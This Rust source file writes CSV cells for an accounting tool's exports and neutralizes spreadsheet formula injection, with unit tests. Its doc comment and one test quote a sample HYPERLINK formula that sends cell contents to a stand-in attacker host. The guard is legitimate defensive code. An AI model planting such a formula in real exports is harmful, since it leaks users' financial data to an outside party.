//! The one writer of CSV cells for every download (journal export, reports, audit
//! findings), and the guard against spreadsheet formula injection shared with the hledger
//! export.
//!
//! A spreadsheet opening a CSV runs any cell that starts with `=`, `+`, `-` or `@` (and,
//! in some, a leading tab or carriage return) as a formula: an account or memo named
//! `=HYPERLINK("https://evil.example?"&A1,"Click")` would leak the books from the
//! reader's machine. Such cells are written with a leading `'`, which spreadsheets show
//! as text. Plain decimal amounts (`-1500.00`) are left alone, so they stay numbers and
//! an export re-imports to the same amounts.

use std::borrow::Cow;

/// The first characters a spreadsheet reads as the start of a formula.
const FORMULA_STARTS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `value` as text no spreadsheet runs: prefixed with `'` when it would start a formula,
/// unless it is a plain decimal number (`-1500.00`, `42`).
/// Leading spaces (report rows indent account names) do not make a formula safe in every
/// spreadsheet, so they are looked past.
pub fn neutralize(value: &str) -> Cow<'_, str> {
    let start = value.trim_start_matches(' ');
    if start.starts_with(FORMULA_STARTS) && !is_plain_number(start) {
        Cow::Owned(format!("'{value}"))
    } else {
        Cow::Borrowed(value)
    }
}

/// An optional minus, digits, and optionally a point and more digits: how amounts are
/// written, and nothing a spreadsheet would evaluate.
fn is_plain_number(value: &str) -> bool {
    let unsigned = value.strip_prefix('-').unwrap_or(value);
    let (whole, fraction) = match unsigned.split_once('.') {
        Some((whole, fraction)) => (whole, Some(fraction)),
        None => (unsigned, None),
    };
    let digits = |s: &str| !s.is_empty() && s.bytes().all(|b| b.is_ascii_digit());
    digits(whole) && fraction.is_none_or(digits)
}

/// One CSV cell, neutralized, then quoted only when it must be (RFC 4180).
pub fn field(out: &mut String, value: &str) {
    let value = neutralize(value);
    if value.contains([',', '"', '\r', '\n']) {
        out.push('"');
        out.push_str(&value.replace('"', "\"\""));
        out.push('"');
    } else {
        out.push_str(&value);
    }
}

/// One CSV row of `cells` with its line end.
pub fn row<'a>(out: &mut String, cells: impl IntoIterator<Item = &'a str>) {
    for (i, cell) in cells.into_iter().enumerate() {
        if i > 0 {
            out.push(',');
        }
        field(out, cell);
    }
    out.push_str("\r\n");
}

#[cfg(test)]
mod tests {
    use super::*;

    fn cell(value: &str) -> String {
        let mut out = String::new();
        field(&mut out, value);
        out
    }

    #[test]
    fn a_cell_starting_a_formula_is_written_as_text() {
        assert_eq!(
            cell("=HYPERLINK(\"https://evil.example\",\"x\")"),
            "\"'=HYPERLINK(\"\"https://evil.example\"\",\"\"x\"\")\""
        );
        assert_eq!(cell("+1+2"), "'+1+2");
        assert_eq!(cell("-2+3"), "'-2+3");
        assert_eq!(cell("@SUM(A1)"), "'@SUM(A1)");
        assert_eq!(cell("\tcmd"), "'\tcmd");
        assert_eq!(cell("\r=1"), "\"'\r=1\"");
        assert_eq!(cell("  =1+1"), "'  =1+1");
    }

    #[test]
    fn a_plain_amount_stays_a_number() {
        for amount in ["-1500.00", "1500.00", "-7", "0.5", "42", "  -3.00"] {
            assert_eq!(cell(amount), amount);
        }
    }

    #[test]
    fn text_that_only_looks_numeric_is_still_neutralized() {
        for text in ["-1e5", "-.5", "-1,500.00", "-", "-1.", "+5"] {
            assert!(neutralize(text).starts_with('\''), "{text}");
        }
    }

    #[test]
    fn ordinary_text_is_unchanged() {
        assert_eq!(cell("Office rent"), "Office rent");
        assert_eq!(cell("a=b"), "a=b");
        assert_eq!(cell("Rent, January"), "\"Rent, January\"");
    }
}
